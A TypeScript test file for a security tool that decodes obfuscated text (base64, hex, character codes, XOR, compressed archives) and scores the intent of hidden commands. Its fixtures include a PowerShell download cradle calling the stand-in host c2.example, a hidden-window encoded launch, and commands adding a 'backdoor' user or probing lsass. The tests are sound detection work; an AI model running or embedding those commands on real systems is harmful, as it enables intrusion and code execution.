import { readFileSync } from 'node:fs';
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  DEFAULT_DECODE_LIMITS,
  decodeColumn,
  decodeText,
  judgeDecoded,
} from '../../../../lib/analysis/base64/index.ts';
import { itWithShared, sharedPath } from '../../../support/shared.ts';
import { tarOf, zipOf } from '../support/archives.ts';

const base64 = (content: string | Buffer) => Buffer.from(content as string).toString('base64');
const wide = (text: string) => Buffer.from(text, 'utf16le');
const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://c2.example/a.ps1')";

function textsOf(text: string): (string | null)[] {
  return decodeText(text)?.items.map((item) => item.string?.text ?? null) ?? [];
}

describe('what is found in a text', () => {
  it('is PowerShell’s encoded command, by any abbreviation, with the command in place', () => {
    for (const flag of ['-e', '-ec', '-en', '-enc', '-Enco', '-EncodedCommand', '/enc', '\u2013enc']) {
      const decoded = decodeText(`powershell.exe -nop ${flag} ${base64(wide(CRADLE))}`);
      expect(decoded?.text).toBe(`powershell.exe -nop ${flag} ${CRADLE}`);
      expect(decoded?.items[0]).toMatchObject({ method: 'base64', depth: 1, reference: '1', parent: null });
      expect(decoded?.items[0]?.string?.encoding).toBe('utf-16le');
    }
    expect(decodeText('powershell -enc ZABpAHIA')?.text).toBe('powershell -enc dir');
  });

  it('is base64 of either alphabet, without padding, wrapped, reversed, cut into literals, or in a path', () => {
    const plain = 'echo what??>> ~~ was hidden in here, and is long enough';
    const urlSafe = Buffer.from(plain).toString('base64url');
    const wrapped = base64(plain.repeat(3)).replaceAll(/(.{64})/g, '$1\r\n');
    const reversed = [...base64(`${plain}.`)].reverse().join('');
    expect(textsOf(`x=${urlSafe};`)).toEqual([plain]);
    expect(textsOf(`x ${base64(plain).replace(/=+$/, '')} y`)).toEqual([plain]);
    expect(textsOf(`blob:\n${wrapped}\nend`)).toEqual([plain.repeat(3)]);
    expect(reversed.startsWith('=')).toBe(true);
    expect(textsOf(`$x='${reversed}'`)).toEqual([`${plain}.`]);
    const pieces = base64(plain).match(/.{1,9}/g)!;
    expect(textsOf(`$x = '${pieces.join("' + '")}'`)).toEqual([plain]);
    expect(textsOf(`/data/blobs/${base64(plain).replaceAll('/', '_')}`)).toEqual([plain]);
  });

  it('is text of other scripts and encodings', () => {
    const russian = 'запустить процесс от имени администратора';
    expect(textsOf(base64(wide(russian)))).toEqual([russian]);
    expect(textsOf(base64(russian))).toEqual([russian]);
    const big = Buffer.from(wide('Get-Process -Name lsass')).swap16();
    expect(decodeText(`x ${base64(big)}`)?.items[0]?.string).toEqual({
      encoding: 'utf-16be',
      text: 'Get-Process -Name lsass',
    });
  });

  it('is what lies in archives and compressed layers', () => {
    const file = Buffer.from('what the file holds, in so many words');
    expect(textsOf(base64(gzipSync(file)))).toEqual([null, String(file)]);
    expect(textsOf(`[IO.Compression.DeflateStream]'${base64(deflateRawSync(file))}'`)).toEqual([null, String(file)]);
    expect(textsOf(`zlib '${base64(deflateSync(file))}'`)).toEqual([null, String(file)]);
    const zip = decodeText(base64(zipOf({ 'a.txt': file, 'b/c.ps1': Buffer.from('dir c:\\') })));
    expect(zip?.items.map((item) => [item.reference, item.parent, item.fileName, item.fileType])).toEqual([
      ['1', null, null, 'zip'],
      ['1.1', '1', 'a.txt', null],
      ['1.2', '1', 'b/c.ps1', null],
    ]);
    expect(textsOf(base64(tarOf({ 'a.txt': file })))).toEqual([null, String(file)]);
  });

  it('is hex, character codes and one-byte XOR', () => {
    expect(textsOf(`0x${Buffer.from('net user backdoor /add').toString('hex')}`)).toEqual(['net user backdoor /add']);
    const codes = [...'whoami /all'].map((character) => character.charCodeAt(0));
    expect(textsOf(`-join [char[]](${codes.join(',')})`)).toEqual(['whoami /all']);
    expect(textsOf(codes.map((code) => `[char]${code}`).join('+'))).toEqual(['whoami /all']);
    expect(textsOf(`x = ${codes.map((code) => `Chr(${code})`).join(' & ')}`)).toEqual(['whoami /all']);
    expect(textsOf(`"${codes.map((code) => `\\x${code.toString(16)}`).join('')}"`)).toEqual(['whoami /all']);
    const masked = Buffer.from(`start ${CRADLE}`).map((byte) => byte ^ 0x9f);
    expect(textsOf(`$b='${base64(Buffer.from(masked))}'`)).toEqual([null, `start ${CRADLE}`]);
    const named = Buffer.from('no known word in this one').map((byte) => byte ^ 0x97);
    expect(textsOf(`FromBase64String('${base64(Buffer.from(named))}') | % { $_ -bxor 0x97 }`)).toContain(
      'no known word in this one',
    );
  });

  it('is named by its first bytes', () => {
    const program = Buffer.alloc(512);
    program.write('MZ', 'latin1');
    program.writeUInt32LE(0x80, 60);
    program.write('PE\0\0', 0x80, 'latin1');
    for (const [characteristics, subsystem, type] of [
      [2, 3, 'exe'],
      [0x2002, 3, 'dll'],
      [2, 1, 'sys'],
    ] as const) {
      program.writeUInt16LE(characteristics, 0x80 + 22);
      program.writeUInt16LE(subsystem, 0x80 + 92);
      expect(decodeText(`x ${base64(program)}`)?.items[0]?.fileType).toBe(type);
    }
    expect(decodeText(base64(zipOf({ a: Buffer.from('a secret that nobody reads') }, 1)))?.limitsMet).toEqual([
      'damaged-archive',
    ]);
  });

  itWithShared('data/msticpy/base64msg.txt', 'has true parents, all layers down', () => {
    const decoded = decodeText(readFileSync(sharedPath('data/msticpy/base64msg.txt'), 'utf8'));
    expect(
      decoded?.items.map((item) => [item.reference, item.fileName, item.string?.text.slice(0, 4) ?? null]),
    ).toEqual([
      ['1', null, null],
      ['1.1', 'dllenc.txt', '----'],
      ['1.1.1', null, null],
      ['1.2', 'txtenc.txt', '----'],
      ['1.2.1', null, 'text'],
      ['1.3', 'txtenc.txt.gz', null],
      ['1.3.1', null, '----'],
      ['1.3.1.1', null, 'text'],
      ['2', null, null],
      ['2.1', 'dllenc.txt', '----'],
      ['2.1.1', null, null],
      ['2.2', 'txtenc.txt', '----'],
      ['2.2.1', null, 'text'],
      ['2.3', 'txtenc.txt.gz', null],
      ['2.3.1', null, '----'],
      ['2.3.1.1', null, 'text'],
    ]);
  });
});

describe('what is not found', () => {
  const ordinary = [
    'C:\\Program Files\\Microsoft Monitoring Agent\\Agent\\Health Service State\\CT_602681692\\work',
    '/usr/lib/python3/dist-packages/twisted/internet/asyncioreactor/extensions/configuration',
    'the quick brown fox jumps over internationalization and InitiatingProcessFolderPathColumn',
    '9fd687fb66a85f89cc413728a179fb0d 3414109cd3c337be290997995549fa96aaaaaaaabbbbbbbb',
    'S-1-5-21-996632719-2361334927-4038480536-1066 {52b1ab41-869e-4138-9e40-2a4457f09bf0}',
    'grep -e test -r . ; bash -e script ; tar -ef archive',
    'http://contoso.com/a/very/long/path/that/has/no/base64/in/it/index.html?session=none',
    '--some-very-long-option-name=some_other_long_value_with_underscores',
  ];
  for (const text of ordinary) it(JSON.stringify(text.slice(0, 50)), () => expect(decodeText(text)).toBeNull());
});

describe('bounds', () => {
  const limits = { ...DEFAULT_DECODE_LIMITS };

  it('on depth', () => {
    let text = 'the innermost text of them all';
    for (let layer = 0; layer < 8; layer++) text = base64(text);
    expect(decodeText(text, { ...limits, maxDepth: 4 })).toMatchObject({ limitsMet: ['depth'] });
    expect(decodeText(text)?.items).toHaveLength(8);
  });

  it('on bombs, in ratio and size', () => {
    const bomb = base64(gzipSync(Buffer.alloc(50_000_000)));
    const met = decodeText(`x ${bomb}`, { ...limits, maxRatio: 100 });
    expect(met?.limitsMet).toEqual(['ratio']);
    expect(decodeText(`x ${bomb}`, { ...limits, maxRatio: 100_000 })?.limitsMet).toEqual(['size']);
  });

  it('on items and members', () => {
    const many = Array.from({ length: 30 }, (_, i) => base64(`an encoded sentence, number ${i}`)).join(' ');
    expect(decodeText(many, { ...limits, maxItems: 10 })).toMatchObject({ limitsMet: ['items'] });
    const files = Object.fromEntries(Array.from({ length: 30 }, (_, i) => [`f${i}`, Buffer.from(`file ${i}`)]));
    expect(decodeText(base64(zipOf(files)), { ...limits, maxMembers: 5 })?.limitsMet).toEqual(['members']);
  });

  it('on a whole column, with the rows that were left out', () => {
    const texts = Array.from({ length: 20 }, (_, i) => base64(`${i} ${'x y '.repeat(300)}`));
    const decoded = decodeColumn(texts, { ...limits, maxTotalSizeInBytes: 5_000 });
    expect(decoded.rows).toHaveLength(5);
    expect(decoded.rowsLeftOut).toBe(15);
  });
});

describe('hostile texts', () => {
  it('are taken without a crash, however they are made', () => {
    const piece = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.base64String(),
      fc.uint8Array({ maxLength: 300 }).map((bytes) => base64(Buffer.from(bytes))),
      fc.uint8Array({ maxLength: 200 }).map((bytes) => base64(gzipSync(Buffer.from(bytes)).subarray(0, 40))),
      fc
        .uint8Array({ maxLength: 100 })
        .map((bytes) => base64(Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.from(bytes)]))),
      fc
        .uint8Array({ maxLength: 100 })
        .map((bytes) => base64(Buffer.concat([Buffer.alloc(257), Buffer.from('ustar'), Buffer.from(bytes)]))),
      fc.constantFrom('-enc ', "FromBase64String('", '\\x41', '[char]', '==', '\r\n', '0x', "'+'"),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const decoded = decodeText(pieces.join(''));
        for (const item of decoded?.items ?? []) {
          expect(item.bytes.length).toBeLessThanOrEqual(DEFAULT_DECODE_LIMITS.maxSizeInBytes);
          if (item.parent !== null) expect(item.reference.startsWith(`${item.parent}.`)).toBe(true);
        }
      }),
      { numRuns: 400 },
    );
  });

  it('do not hide what is planted in them', () => {
    const units = [
      '\\',
      'a',
      '/',
      '=',
      '+',
      '-',
      'QUJD',
      '0x',
      '104,',
      "'+'",
      '[char]',
      '\r\n',
      '\u0000',
      'é',
      '\ud800',
      'AAAA/',
    ];
    for (const unit of units) {
      const noise = unit.repeat(2000 / unit.length);
      const text = `${noise} "${base64('what was planted in between')}" ${noise} powershell -enc ${base64(wide('whoami /all'))} ${noise}`;
      expect(textsOf(text), JSON.stringify(unit)).toEqual(
        expect.arrayContaining(['what was planted in between', 'whoami /all']),
      );
    }
  });

  it('take no more than linear work', () => {
    const big = 300_000;
    const texts = [
      'A'.repeat(big),
      'a-'.repeat(big / 2),
      'abc/'.repeat(big / 4),
      `${'QUJD'.repeat(16)}\n`.repeat(big / 65),
      `${'104,'.repeat(big / 4)}char`,
      "'a'+".repeat(big / 4),
      `-e ${' '.repeat(big)}`,
      '='.repeat(big),
      '\\x41'.repeat(big / 4),
      `FromBase64String(${'('.repeat(big)}`,
    ];
    for (const text of texts) decodeText(text);
  });
});

describe('what a hidden command says of intent', () => {
  const judge = (command: string) => {
    const decoded = decodeText(command);
    return decoded && judgeDecoded(command, decoded);
  };

  it('ranks a download cradle above an administrator’s script', () => {
    const cradle = judge(`powershell -w hidden -enc ${base64(wide(CRADLE))}`)!;
    const admin = judge(`powershell -enc ${base64(wide('Get-Service | Where Status -eq Running'))}`)!;
    expect(cradle.score).toBeGreaterThanOrEqual(70);
    expect(admin.score).toBeLessThan(40);
    expect(cradle.techniques).toEqual(expect.arrayContaining(['T1059.001', 'T1027.010', 'T1105']));
    expect(cradle.reason).toContain('it downloads');
  });

  it('says nothing of encoded text without intent', () => {
    expect(judge(`set x=${base64('just a note to myself, nothing more')}`)).toBeNull();
  });
});
